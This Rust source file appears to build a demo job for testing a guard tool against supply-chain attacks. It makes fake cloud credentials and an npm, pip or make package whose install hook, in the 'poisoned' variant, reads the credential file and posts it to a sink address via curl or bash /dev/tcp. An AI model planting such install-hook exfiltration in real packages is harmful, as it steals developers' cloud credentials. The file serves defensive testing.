//! Makes the job of the demo: a home, a repository to clone, honest work, and one package to install.

use std::fs;
use std::io;
use std::net::SocketAddrV4;
use std::os::unix::fs::{DirBuilderExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// What installs the package, best known first.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Manager {
    Npm,
    Pip,
    Make,
}

impl Manager {
    const ALL: [Self; 3] = [Self::Npm, Self::Pip, Self::Make];

    /// The managers that this machine has, in order of preference.
    pub fn installed() -> Vec<Self> {
        Self::ALL.into_iter().filter(|manager| manager.program().is_some()).collect()
    }

    pub fn name(self) -> &'static str {
        match self {
            Self::Npm => "npm",
            Self::Pip => "pip",
            Self::Make => "make",
        }
    }

    /// The words that start it, as a build script writes them.
    fn program(self) -> Option<&'static str> {
        let spellings: &[&str] = match self {
            Self::Npm => &["npm"],
            Self::Pip => &["pip", "pip3", "python3 -m pip"],
            Self::Make => &["make"],
        };
        spellings.iter().copied().find(|spelling| answers(spelling))
    }
}

/// A version manager's shim is on the path even when there is nothing behind it, so the program is asked.
fn answers(program: &str) -> bool {
    let Ok(home) = tempfile::tempdir() else { return false };
    let mut command = Command::new("sh");
    command.args(["-c", &format!("{program} --version")]);
    scrub(&mut command, home.path());
    command.stdout(Stdio::null()).stderr(Stdio::null());
    command.status().is_ok_and(|status| status.success())
}

/// What the package's install script does besides its own work.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Package {
    /// Nothing.
    Honest,
    /// It reads the credential and posts it to the sink.
    Poisoned,
}

/// Everything that differs between two runs; the honest and the poisoned job are made from the same plan.
#[derive(Clone, Debug)]
pub struct Plan {
    pub manager: Manager,
    pub package: String,
    pub credential: Credential,
    pub sink: SocketAddrV4,
    user: String,
    app: String,
    setup: String,
    helper: String,
    version: String,
    reading: Reading,
}

/// A cloud tool's credential, as that tool stores it, with made-up contents.
#[derive(Clone, Debug)]
pub struct Credential {
    /// Where the tool keeps it, below the home.
    pub store: &'static str,
    pub contents: String,
    /// The values that must not leave.
    pub secrets: Vec<String>,
}

/// Who opens the credential: the program that connects, or another one that hands it over.
#[derive(Clone, Copy, Debug)]
enum Reading {
    Itself,
    Pipe,
}

impl Plan {
    pub fn random(random: &mut fastrand::Rng, manager: Manager, sink: SocketAddrV4) -> Self {
        Self {
            manager,
            sink,
            package: format!("{}-{}-{}", pick(random, &ADJECTIVES), pick(random, &NOUNS), hex(random, 4)),
            credential: Credential::random(random),
            user: format!("{}{}", pick(random, &["dev", "build", "agent", "worker"]), random.u16(10..100)),
            app: format!("{}{}", pick(random, &NOUNS), hex(random, 3)),
            setup: format!("{}-{}", pick(random, &["setup", "install", "prepare"]), hex(random, 2)),
            helper: format!("{}-{}", pick(random, &["native", "probe", "detect"]), hex(random, 2)),
            version: format!("{}.{}.{}", random.u8(0..4), random.u8(0..20), random.u8(0..20)),
            reading: if random.bool() { Reading::Itself } else { Reading::Pipe },
        }
    }

    /// The package's name as a Python module and as a C identifier.
    fn module(&self) -> String {
        self.package.replace('-', "_")
    }
}

const ADJECTIVES: [&str; 6] = ["tiny", "swift", "plain", "deep", "lazy", "micro"];
const NOUNS: [&str; 6] = ["cache", "parser", "colors", "queue", "glob", "table"];

impl Credential {
    fn random(random: &mut fastrand::Rng) -> Self {
        match random.u8(0..4) {
            0 => {
                let id = text(random, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567");
                let secret = text(random, 40, ALPHANUMERIC);
                Self {
                    store: ".aws/credentials",
                    contents: format!(
                        "[default]\naws_access_key_id = AKIA{id}\naws_secret_access_key = {secret}\n"
                    ),
                    secrets: vec![secret],
                }
            }
            1 => {
                let client = format!("GOCSPX-{}", text(random, 28, ALPHANUMERIC));
                let refresh = format!("1//0{}", text(random, 98, ALPHANUMERIC));
                let contents = serde_json::json!({
                    "type": "authorized_user",
                    "client_id": format!("{}.apps.example", random.u64(100_000_000..1_000_000_000)),
                    "client_secret": client,
                    "refresh_token": refresh,
                });
                Self {
                    store: ".config/gcloud/application_default_credentials.json",
                    contents: format!("{contents:#}\n"),
                    secrets: vec![client, refresh],
                }
            }
            2 => {
                let refresh = format!("0.A{}", text(random, 120, ALPHANUMERIC));
                let account = hex(random, 32);
                let contents = serde_json::json!({
                    "RefreshToken": {
                        (format!("{account}-refreshtoken")): {
                            "credential_type": "RefreshToken",
                            "environment": "login.example",
                            "home_account_id": account,
                            "secret": refresh,
                        }
                    }
                });
                Self {
                    store: ".azure/msal_token_cache.json",
                    contents: format!("{contents:#}\n"),
                    secrets: vec![refresh],
                }
            }
            _ => {
                let token = format!("dop_v1_{}", hex(random, 64));
                Self {
                    store: ".config/doctl/config.yaml",
                    contents: format!("access-token: {token}\ncontext: default\noutput: text\n"),
                    secrets: vec![token],
                }
            }
        }
    }
}

const ALPHANUMERIC: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

fn text(random: &mut fastrand::Rng, length: usize, alphabet: &str) -> String {
    let alphabet = alphabet.as_bytes();
    (0..length).map(|_| char::from(alphabet[random.usize(0..alphabet.len())])).collect()
}

fn hex(random: &mut fastrand::Rng, length: usize) -> String {
    text(random, length, "0123456789abcdef")
}

fn pick<'a>(random: &mut fastrand::Rng, words: &[&'a str]) -> &'a str {
    words[random.usize(0..words.len())]
}

/// A job laid out on disk, ready to run as often as its workspace is empty: once.
#[derive(Clone, Debug)]
pub struct Job {
    pub home: PathBuf,
    pub workspace: PathBuf,
    /// The real path of the credential.
    pub credential: PathBuf,
}

impl Job {
    /// Lays the job out below `root`, which must exist and be empty.
    pub fn make(root: &Path, plan: &Plan, package: Package) -> io::Result<Self> {
        let root = root.canonicalize()?;
        let home = root.join("home").join(&plan.user);
        let workspace = workspace(&root, plan);
        fs::create_dir_all(&workspace)?;
        fs::create_dir_all(&home)?;

        let credential = home.join(plan.credential.store);
        if let Some(folder) = credential.parent() {
            fs::DirBuilder::new().recursive(true).mode(0o700).create(folder)?;
        }
        fs::write(&credential, &plan.credential.contents)?;
        fs::set_permissions(&credential, fs::Permissions::from_mode(0o600))?;

        let upstream = publish(&root, &home, plan, package)?;
        let install = match plan.manager {
            Manager::Npm => "npm install".to_owned(),
            Manager::Pip => {
                let pip = Manager::Pip.program().unwrap_or("pip");
                format!("{pip} install --no-index --no-build-isolation --target site -r requirements.txt")
            }
            Manager::Make => "make deps".to_owned(),
        };
        let script = format!(
            "set -euo pipefail\n\
             git clone --quiet {} {app}\n\
             cd {app}\n\
             make\n\
             make test\n\
             {install}\n",
            upstream.display(),
            app = plan.app,
        );
        fs::write(workspace.join("build.sh"), script)?;
        Ok(Self { home, workspace, credential })
    }

    /// The job with nobody watching.
    pub fn alone(&self) -> Command {
        let mut command = Command::new("bash");
        command.arg("./build.sh");
        self.place(&mut command);
        command
    }

    /// The job under the guard, without a policy.
    pub fn under(&self, guard: &Path, report: &Path) -> Command {
        let mut command = Command::new(guard);
        command.arg("run").arg("--report-dir").arg(report).args(["--", "bash", "./build.sh"]);
        self.place(&mut command);
        command
    }

    fn place(&self, command: &mut Command) {
        scrub(command, &self.home);
        command.current_dir(&self.workspace);
    }
}

fn workspace(root: &Path, plan: &Plan) -> PathBuf {
    root.join("work").join(format!("{}-job", plan.app))
}

/// Leaves the variables that a plain shell has, so that a run on a CI runner is the same as one at a desk.
fn scrub(command: &mut Command, home: &Path) {
    command.env_clear().env("HOME", home).stdin(Stdio::null());
    for name in ["PATH", "LANG", "TERM", "NO_COLOR", "SUDO_UID", "SUDO_GID", "SUDO_USER"] {
        if let Some(value) = std::env::var_os(name) {
            command.env(name, value);
        }
    }
    for setting in ["npm_config_audit", "npm_config_fund", "npm_config_update_notifier"] {
        command.env(setting, "false");
    }
    command.env("npm_config_offline", "true");
    command.env("PIP_DISABLE_PIP_VERSION_CHECK", "1").env("PIP_ROOT_USER_ACTION", "ignore");
}

/// Makes the bare repository that the job clones, with the package inside as the project vendors it.
fn publish(root: &Path, home: &Path, plan: &Plan, package: Package) -> io::Result<PathBuf> {
    let tree = root.join("draft");
    let upstream = root.join("upstream").join(format!("{}.git", plan.app));
    write_app(&tree, &plan.app)?;
    match plan.manager {
        Manager::Npm => vendor_npm(root, &tree, home, plan, package)?,
        Manager::Pip => vendor_pip(root, &tree, home, plan, package)?,
        Manager::Make => vendor_make(&tree, plan, package)?,
    }
    let git = |words: &[&str]| {
        let mut command = Command::new("git");
        command.args(["-c", "user.name=Demo", "-c", "user.email=demo@demo.example"]).args(words);
        scrub(&mut command, home);
        command.env("GIT_CONFIG_NOSYSTEM", "1").current_dir(&tree);
        finish(command)
    };
    git(&["init", "--quiet"])?;
    git(&["add", "--all"])?;
    git(&["commit", "--quiet", "--message", "Start"])?;
    git(&["clone", "--quiet", "--bare", ".", &upstream.to_string_lossy()])?;
    fs::remove_dir_all(&tree)?;
    Ok(upstream)
}

/// A C program with a test.
fn write_app(tree: &Path, app: &str) -> io::Result<()> {
    write(
        tree,
        "Makefile",
        &format!(
            "CFLAGS = -O2 -Wall\n\
             {app}: src/main.c src/words.c src/words.h\n\
             \t$(CC) $(CFLAGS) -o $@ src/main.c src/words.c\n\
             test: src/words_test.c src/words.c src/words.h\n\
             \t$(CC) $(CFLAGS) -o words_test src/words_test.c src/words.c\n\
             \t./words_test\n"
        ),
    )?;
    write(tree, "src/words.h", "unsigned words_in(const char *text);\n")?;
    write(
        tree,
        "src/words.c",
        "#include \"words.h\"\n\
         unsigned words_in(const char *text) {\n\
         \tunsigned count = 0, inside = 0;\n\
         \tfor (; *text; text++) {\n\
         \t\tif (*text == ' ') inside = 0;\n\
         \t\telse if (!inside) { inside = 1; count++; }\n\
         \t}\n\
         \treturn count;\n\
         }\n",
    )?;
    write(
        tree,
        "src/main.c",
        "#include <stdio.h>\n#include \"words.h\"\n\
         int main(int argc, char **argv) { printf(\"%u\\n\", argc > 1 ? words_in(argv[1]) : 0); return 0; }\n",
    )?;
    write(
        tree,
        "src/words_test.c",
        "#include <stdio.h>\n#include \"words.h\"\n\
         int main(void) {\n\
         \tif (words_in(\"\") != 0 || words_in(\" one two  three \") != 3) return 1;\n\
         \tputs(\"words_test: 2 checks passed\");\n\
         \treturn 0;\n\
         }\n",
    )
}

/// npm, sh -c, node, sh, and the programs that the last one starts.
fn vendor_npm(root: &Path, tree: &Path, home: &Path, plan: &Plan, package: Package) -> io::Result<()> {
    let Plan { package: name, version, setup, helper, app, .. } = plan;
    let checkout = workspace(root, plan).join(app);
    let draft = root.join("package");
    let manifest = serde_json::json!({
        "name": name, "version": version, "license": "MIT", "main": "index.js",
        "scripts": {"postinstall": format!("node {setup}.js")},
    });
    write(&draft, "package.json", &format!("{manifest:#}\n"))?;
    write(&draft, "index.js", "module.exports = () => 'ready';\n")?;
    write(
        &draft,
        &format!("{setup}.js"),
        &format!(
            "const {{ spawnSync }} = require('node:child_process');\n\
             const done = spawnSync('sh', ['scripts/{helper}.sh'], {{ stdio: 'inherit' }});\n\
             process.exit(done.status === null ? 1 : done.status);\n"
        ),
    )?;
    write_helper(&draft, plan, package)?;
    let archive = format!("vendor/{name}-{version}.tgz");
    pack(root, "package", &tree.join(&archive), home)?;
    let manifest = serde_json::json!({
        "name": app, "version": "1.0.0", "private": true,
        "dependencies": {name.as_str(): format!("file:{archive}")},
        // The project has approved the package's script, which newer versions of npm ask for.
        "allowScripts": {(format!("file:{}", checkout.join(&archive).display())): true},
    });
    write(tree, "package.json", &format!("{manifest:#}\n"))
}

/// pip, python, python, sh, and the programs that the last one starts. The package brings its own build backend,
/// so neither setuptools nor wheel has to be there.
fn vendor_pip(root: &Path, tree: &Path, home: &Path, plan: &Plan, package: Package) -> io::Result<()> {
    let Plan { package: name, version, setup, helper, .. } = plan;
    let module = plan.module();
    let folder = format!("{module}-{version}");
    let draft = root.join(&folder);
    write(
        &draft,
        "pyproject.toml",
        &format!(
            "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\
             [project]\nname = \"{name}\"\nversion = \"{version}\"\n"
        ),
    )?;
    write(&draft, &format!("{module}.py"), "def state():\n    return 'ready'\n")?;
    write(
        &draft,
        &format!("{setup}.py"),
        &format!("import subprocess\n\nsubprocess.run(['sh', 'scripts/{helper}.sh'], check=True)\n"),
    )?;
    write(
        &draft,
        "backend.py",
        &format!(
            r#"import os
import subprocess
import sys
import zipfile

INFO = "{module}-{version}.dist-info"
FILES = {{
    INFO + "/METADATA": "Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
    INFO + "/WHEEL": "Wheel-Version: 1.0\nGenerator: backend\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}}


def prepare_metadata_for_build_wheel(folder, settings=None):
    os.makedirs(os.path.join(folder, INFO))
    for path, text in FILES.items():
        with open(os.path.join(folder, path), "w") as file:
            file.write(text)
    return INFO


def build_wheel(folder, settings=None, metadata=None):
    subprocess.run([sys.executable, "{setup}.py"], check=True)
    name = "{module}-{version}-py3-none-any.whl"
    record = INFO + "/RECORD"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.write("{module}.py")
        for path, text in FILES.items():
            wheel.writestr(path, text)
        wheel.writestr(record, "".join(path + ",,\n" for path in ["{module}.py", *FILES, record]))
    return name
"#
        ),
    )?;
    write_helper(&draft, plan, package)?;
    let archive = format!("vendor/{folder}.tar.gz");
    pack(root, &folder, &tree.join(&archive), home)?;
    write(tree, "requirements.txt", &format!("./{archive}\n"))
}

/// make, make, sh, bash, sh, and the programs that the last one starts.
fn vendor_make(tree: &Path, plan: &Plan, package: Package) -> io::Result<()> {
    let Plan { package: name, setup, helper, .. } = plan;
    let path = tree.join("Makefile");
    let deps = format!("deps:\n\t$(MAKE) -C vendor/{name} all\n.PHONY: test deps\n");
    fs::write(&path, fs::read_to_string(&path)? + &deps)?;
    let draft = tree.join("vendor").join(name);
    write(&draft, "Makefile", &format!("all:\n\tbash ./{setup}.bash && echo done > stamp\n"))?;
    write(&draft, &format!("{setup}.bash"), &format!("set -e\nsh scripts/{helper}.sh\necho configured\n"))?;
    write_helper(&draft, plan, package)
}

/// The script at the end of the chain. Both packages compile a probe in their own folder; a poisoned one goes on.
fn write_helper(draft: &Path, plan: &Plan, package: Package) -> io::Result<()> {
    write(
        draft,
        "scripts/probe.c",
        &format!(
            "#include <stdio.h>\n\
             int main(void) {{ printf(\"{} pointer size %zu\\n\", sizeof(void *)); return 0; }}\n",
            plan.module()
        ),
    )?;
    let mut script = "set -e\n\
         mkdir -p build\n\
         cc -O1 -o build/probe scripts/probe.c\n\
         ./build/probe > build/target.txt\n"
        .to_owned();
    if package == Package::Poisoned {
        script += &theft(plan);
    }
    script += "echo built\n";
    write(draft, &format!("scripts/{}.sh", plan.helper), &script)
}

fn theft(plan: &Plan) -> String {
    let Plan { sink, credential: Credential { store, .. }, .. } = plan;
    let path = format!("\"$HOME\"/{store}");
    if !answers("curl") {
        // bash itself reads and connects; a here-document keeps both out of its arguments.
        return format!(
            "bash <<'END' >/dev/null 2>&1 || true\n\
             IFS= read -r -d '' body < {path}\n\
             exec 3<>/dev/tcp/{}/{}\n\
             printf 'POST / HTTP/1.0\\r\\nContent-Length: %s\\r\\n\\r\\n%s' \"${{#body}}\" \"$body\" >&3\n\
             read -r -t 10 <&3\n\
             END\n",
            sink.ip(),
            sink.port()
        );
    }
    let post = format!("curl --silent --max-time 20 http://{sink}/ --data-binary");
    match plan.reading {
        Reading::Itself => format!("{post} @{path} >/dev/null 2>&1 || true\n"),
        Reading::Pipe => format!("cat {path} | {post} @- >/dev/null 2>&1 || true\n"),
    }
}

fn pack(root: &Path, folder: &str, archive: &Path, home: &Path) -> io::Result<()> {
    if let Some(vendor) = archive.parent() {
        fs::create_dir_all(vendor)?;
    }
    let mut command = Command::new("tar");
    command.arg("-czf").arg(archive).arg("-C").arg(root).arg(folder);
    scrub(&mut command, home);
    finish(command)?;
    fs::remove_dir_all(root.join(folder))
}

fn write(folder: &Path, name: &str, text: &str) -> io::Result<()> {
    let path = folder.join(name);
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent)?;
    }
    fs::write(path, text)
}

fn finish(mut command: Command) -> io::Result<()> {
    let status = command.status().map_err(|error| io::Error::other(format!("{command:?}: {error}")))?;
    if status.success() { Ok(()) } else { Err(io::Error::other(format!("{command:?}: {status}"))) }
}
